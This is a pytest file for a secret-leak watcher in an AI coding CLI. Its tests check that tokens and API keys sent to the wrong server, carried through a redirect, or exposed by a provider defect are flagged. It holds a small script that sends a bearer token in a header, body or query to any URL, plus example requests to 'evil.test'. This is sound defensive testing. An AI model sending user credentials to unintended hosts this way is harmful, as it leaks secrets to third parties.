"""The watch over all requests finds leaks: in this process, in others, and by a defect in the product."""

from __future__ import annotations

import sys
from collections.abc import AsyncIterator
from contextlib import aclosing
from pathlib import Path

import httpx
import pytest

from codex_core.config.providers import ModelProvider, WireApi
from codex_core.errors import ModelError
from codex_core.model import ModelClient, Prompt, credentials, family_for
from codex_core.services import Services
from codex_core.testing import ModelServer, ScratchHome, answer, message, run_script_async
from codex_login.auth import AuthManager, login_with_api_key
from codex_login.http import make_client
from codex_login.testing import MockIssuer
from secret_watch import Watch, origin, watching

SEND = """
import sys, urllib.request
url, where, secret = sys.argv[1:]
headers = {"Authorization": "Bearer " + secret} if where == "head" else {}
data = b"a=1&token=" + secret.replace("-", "%2D").encode() if where == "body" else None
query = "?t=" + secret if where == "query" else ""
try:
    urllib.request.urlopen(urllib.request.Request(url + query, data, headers))
except urllib.error.HTTPError:
    pass
"""
"""A program that sends a secret."""


@pytest.fixture
async def issuer() -> AsyncIterator[MockIssuer]:
    async with MockIssuer() as mock:
        yield mock


@pytest.mark.parametrize("where", ["head", "body", "query"])
@pytest.mark.parametrize("name", ["id_token", "access_token", "refresh_token"])
async def test_another_program_that_sends_a_token_to_the_wrong_server_is_found(
    secrets: Watch, issuer: MockIssuer, scratch_home: ScratchHome, where: str, name: str
) -> None:
    token = issuer.new_tokens()[name]
    async with MockIssuer() as other, ModelServer([answer(message("x"))] * 9) as server:
        for url in (f"{other.url}/oauth/x", f"{server.base_url}/responses"):
            command = [sys.executable, "-c", SEND, url, where, token]
            (await run_script_async(command, env=scratch_home.environ(), cwd=scratch_home.path)).check()
            assert len(secrets.take_findings()) == 1, url
    command = [sys.executable, "-c", SEND, f"{issuer.url}/oauth/x", where, token]
    (await run_script_async(command, env=scratch_home.environ(), cwd=scratch_home.path)).check()
    assert secrets.take_findings() == []


async def test_tokens_of_two_issuers_are_never_taken_for_each_other(
    secrets: Watch, issuer: MockIssuer
) -> None:
    async with MockIssuer() as other, make_client(other.url) as client:
        for token in issuer.new_tokens().values():
            other.new_tokens()
            await client.post(f"{other.url}/oauth/revoke", json={"token": token})
            assert len(secrets.take_findings()) == 2, "as it is sent, and as it arrives"


async def test_a_request_of_this_process_is_found_wherever_it_goes(
    secrets: Watch, issuer: MockIssuer
) -> None:
    token = issuer.new_tokens()["access_token"]
    transport = httpx.MockTransport(lambda _request: httpx.Response(200))
    for url, is_home in (
        (issuer.url, True),
        ("https://api.openai.com/v1", True),
        ("https://evil.test", False),
    ):
        async with make_client(
            url, transport=transport, headers={"authorization": f"Bearer {token}"}
        ) as client:
            await client.get(url)
        assert bool(secrets.take_findings()) is not is_home, url


def client_of(provider: ModelProvider, home: Path, environ: dict[str, str]) -> ModelClient:
    return ModelClient(
        provider=provider,
        model="m",
        family=family_for("m"),
        conversation_id="c",
        auth=AuthManager(str(home)),
        services=Services(environ=environ),
        user_agent="ua",
        originator="o",
    )


async def ask(client: ModelClient) -> None:
    async with aclosing(client.stream(Prompt("i", ()))) as events:
        async for _ in events:
            pass
    await client.aclose()


async def test_a_defect_that_sends_the_login_to_every_provider_is_found(
    secrets: Watch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    login_with_api_key(str(tmp_path), "sk-of-the-user")
    async with ModelServer([answer(message("x"))] * 2) as server:
        provider = ModelProvider("plain", "Plain", server.base_url, wire_api=WireApi.RESPONSES)
        await ask(client_of(provider, tmp_path, {}))
        assert secrets.take_findings() == []
        monkeypatch.setattr(credentials, "may_use_login", lambda _provider: True)
        await ask(client_of(provider, tmp_path, {}))
        assert [found.partition(",")[0] for found in secrets.take_findings()] == [
            f"API key at {origin(server.base_url)}"
        ] * 2, "as it is sent, and as it arrives"


async def test_the_key_of_one_provider_does_not_belong_to_another(secrets: Watch, tmp_path: Path) -> None:
    environ = {"A_KEY": "key-of-provider-a"}
    async with ModelServer([answer(message("x"))] * 2) as one, ModelServer([answer(message("x"))]) as other:
        right = ModelProvider("a", "A", one.base_url, env_key="A_KEY", wire_api=WireApi.RESPONSES)
        await ask(client_of(right, tmp_path, environ))
        assert secrets.take_findings() == []
        async with make_client(other.base_url, headers={"x-api-key": "key-of-provider-a"}) as client:
            await client.post(f"{other.base_url}/responses", content=b"{}")
        assert len(secrets.take_findings()) == 2


async def test_the_login_of_a_scratch_home_belongs_where_its_configuration_says(
    secrets: Watch, issuer: MockIssuer, scratch_home: ScratchHome
) -> None:
    scratch_home.write("auth.json", '{"OPENAI_API_KEY": "sk-of-the-user"}')
    async with ModelServer([answer(message("x"))] * 2) as server:
        for takes_login in (True, False):
            scratch_home.use_model_server(server.base_url, provider={"requires_openai_auth": takes_login})
            with watching() as watch:
                command = [
                    sys.executable,
                    "-c",
                    SEND,
                    f"{server.base_url}/responses",
                    "head",
                    "sk-of-the-user",
                ]
                (await run_script_async(command, env=scratch_home.environ(), cwd=scratch_home.path)).check()
            assert bool(watch.findings) is not takes_login
    assert secrets.take_findings() == []


async def test_a_redirect_is_looked_at_too(secrets: Watch, issuer: MockIssuer) -> None:
    token = issuer.new_tokens()["access_token"]

    def answer_with_redirect(request: httpx.Request) -> httpx.Response:
        is_first = request.url.host == "api.openai.com"
        return (
            httpx.Response(307, headers={"location": "https://evil.test"})
            if is_first
            else httpx.Response(200)
        )

    transport = httpx.MockTransport(answer_with_redirect)
    async with make_client("https://api.openai.com", transport=transport) as client:
        headers = {"x-token": token}
        await client.get("https://api.openai.com/v1", headers=headers)
        assert secrets.take_findings() == [], "ours follow none"
        await client.get("https://api.openai.com/v1", headers=headers, follow_redirects=True)
    assert len(secrets.take_findings()) == 1


async def test_a_product_failure_is_no_finding(secrets: Watch, tmp_path: Path) -> None:
    before = secrets.looked_at
    login_with_api_key(str(tmp_path), "sk-of-the-user")
    provider = ModelProvider(
        "gone", "Gone", "http://127.0.0.1:1/v1", wire_api=WireApi.RESPONSES,
        requires_openai_auth=True, request_max_retries=0,
    )  # fmt: skip
    with pytest.raises(ModelError):
        await ask(client_of(provider, tmp_path, {}))
    assert secrets.looked_at == before + 1
